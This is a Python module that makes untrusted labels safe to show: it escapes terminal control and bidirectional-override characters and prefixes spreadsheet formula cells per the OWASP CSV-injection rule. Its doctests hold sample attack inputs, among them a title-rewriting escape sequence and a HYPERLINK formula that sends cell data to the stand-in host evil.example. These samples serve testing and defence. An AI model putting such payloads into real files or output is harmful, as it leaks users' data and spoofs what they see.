"""Making data harmless where it is shown: on a terminal, and in a spreadsheet.

Labels come from files anybody can write. Two places would act on what they contain:

- **A terminal** runs escape sequences: ``ESC]0;...`` sets the window title, ``ESC[2J`` clears
  the screen, a carriage return overwrites what was printed, a right-to-left override reorders
  it. :func:`terminal_text` shows every such character as a visible escape (``\\x1b``) instead.
  The CLI applies it to all text it prints for people (never to JSON or to data formats).
- **A spreadsheet** runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
  (``=HYPERLINK(...)`` sends data away when clicked). :func:`spreadsheet_csv` follows the OWASP
  rule for CSV meant for spreadsheets: such a cell gets a leading ``'`` and is quoted.
"""

from __future__ import annotations

import csv
import io
import re

#: Characters a terminal may act on: C0 controls but tab and newline, DEL, C1 controls, the
#: bidirectional overrides and isolates ("Trojan source"), and the Unicode line separators.
_CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029]")
_CONTROLS_AND_LINES = re.compile("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029]")
_NAMED = {"\n": "\\n", "\r": "\\r", "\t": "\\t"}


def _escape(match: re.Match[str]) -> str:
    char = match.group()
    if char in _NAMED:
        return _NAMED[char]
    code = ord(char)
    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}"


def terminal_text(text: str, *, one_line: bool = False) -> str:
    r"""*text* with every character a terminal would act on shown as a visible escape.

    Tab and newline are kept, unless *one_line* (then they are escaped too, so the text stays on
    one line: error messages).

    >>> terminal_text("evil\x1b]0;owned\x07 label")
    'evil\\x1b]0;owned\\x07 label'
    >>> terminal_text("a\u202eb\nc"), terminal_text("a\nb", one_line=True)
    ('a\\u202eb\nc', 'a\\nb')
    """
    pattern = _CONTROLS_AND_LINES if one_line else _CONTROLS
    return pattern.sub(_escape, text)


def terminal_bytes(data: bytes) -> bytes:
    """:func:`terminal_text` for UTF-8 bytes (invalid UTF-8 is shown as ``\\x..`` escapes)."""
    text = data.decode("utf-8", "backslashreplace")
    return terminal_text(text).encode("utf-8")


#: What makes a spreadsheet read a cell as a formula (OWASP "CSV Injection").
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet would treat *cell* as a formula: it starts with ``= + - @``, a tab
    or a carriage return and is not simply a number.

    >>> is_formula('=HYPERLINK("http://evil.example/?"&A1,"click")'), is_formula("@SUM(A1)")
    (True, True)
    >>> is_formula("-5"), is_formula("+1.5e3"), is_formula("Product Owner")
    (False, False, False)
    """
    return cell.startswith(FORMULA_START) and not _NUMBER.fullmatch(cell)


def spreadsheet_csv(data: bytes) -> bytes:
    """SPARQL CSV results made safe for spreadsheets (OWASP): formula cells become text.

    A cell for which :func:`is_formula` holds gets a leading ``'`` and double quotes; nothing
    else changes, and a result without such cells is returned byte for byte.

    >>> spreadsheet_csv(b'label,cost\\r\\n=1+2,-5\\r\\nok,3\\r\\n')
    b'label,cost\\r\\n"\\'=1+2",-5\\r\\nok,3\\r\\n'
    >>> spreadsheet_csv(b"x\\r\\nplain\\r\\n")
    b'x\\r\\nplain\\r\\n'
    """
    text = data.decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    if not any(is_formula(cell) for row in rows[1:] for cell in row):
        return data
    out = io.StringIO(newline="")
    for row in rows:
        out.write(",".join(_csv_cell(cell) for cell in row) + "\r\n")
    return out.getvalue().encode("utf-8")


def _csv_cell(cell: str) -> str:
    if is_formula(cell):
        return '"' + ("'" + cell).replace('"', '""') + '"'
    if any(ch in cell for ch in ',"\r\n'):
        return '"' + cell.replace('"', '""') + '"'
    return cell


__all__ = [
    "FORMULA_START",
    "is_formula",
    "spreadsheet_csv",
    "terminal_bytes",
    "terminal_text",
]
